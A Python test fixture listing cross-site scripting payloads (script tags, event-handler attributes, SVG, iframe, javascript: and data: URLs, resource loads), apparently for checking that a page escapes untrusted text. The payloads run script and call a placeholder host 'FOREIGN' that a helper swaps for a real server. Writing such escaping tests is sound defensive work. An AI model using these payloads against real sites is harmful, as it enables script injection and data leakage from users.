"""Forty strings that run a script or call out where a page takes a text for markup, and do nothing where it shows it as typed.

``FOREIGN`` stands for a web server that must never be asked. Each says ``owned`` where a script of it runs.
"""

OWNED = "document.title='owned';fetch('FOREIGN/ran')"

MARKUP = [
    *(f"<script>{OWNED}</script>", "<script src=FOREIGN/s.js></script>", f'"><script>{OWNED}</script>'),
    *(f"'><script>{OWNED}</script>", f"</title><script>{OWNED}</script>", f"</textarea><script>{OWNED}</script>"),
    *(f"</style><script>{OWNED}</script>", f"--><script>{OWNED}</script>", f"]]><script>{OWNED}</script>"),
    *(f"<ScRiPt>{OWNED}</sCrIpT>", f'<img src=x onerror="{OWNED}">', "<img src=FOREIGN/i.png>", "<img srcset='FOREIGN/i2.png 1x'>"),
    *(f'<img/src=x/onerror="{OWNED}">', f'<svg onload="{OWNED}"></svg>', f"<svg><script>{OWNED}</script></svg>"),
    *("<svg><image href=FOREIGN/v.svg /></svg>", "<svg><use href='FOREIGN/u.svg#a' /></svg>"),
    f'<svg><animate onbegin="{OWNED}" attributeName=x dur=1s /></svg>',
    *(f'<math><mtext></p><style><!--</style><img src=x onerror="{OWNED}">', "<iframe src=FOREIGN/f.html></iframe>"),
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script><img src=FOREIGN/sd.png>\"></iframe>",
    *(f'<iframe src="javascript:parent.{OWNED}"></iframe>', "<object data=FOREIGN/o.html></object>", "<embed src=FOREIGN/e.html>"),
    *("<link rel=stylesheet href=FOREIGN/l.css>", "<link rel=prefetch href=FOREIGN/p.html>"),
    *("<style>@import 'FOREIGN/st.css';</style>", "<p style='background:url(FOREIGN/bg.png)'>x</p>"),
    *("<base href=FOREIGN/ ><img src=based.png>", "<meta http-equiv=refresh content='0;url=FOREIGN/m'>"),
    *("<video src=FOREIGN/v.mp4 autoplay></video>", "<audio src=FOREIGN/a.mp3 autoplay></audio>"),
    *("<video poster=FOREIGN/po.png></video>", "<input type=image src=FOREIGN/in.png>", f'<input autofocus onfocus="{OWNED}">'),
    f'<details open ontoggle="{OWNED}"><summary>x</summary></details>',
    *("<form action=FOREIGN/fo><button autofocus>Check</button></form>", f"javascript:{OWNED}"),
    f"data:text/html,<script>{OWNED}</script>",
]


def markup(foreign: str) -> list[str]:
    """All of them, calling out to this server."""
    return [text.replace("FOREIGN", foreign) for text in MARKUP]
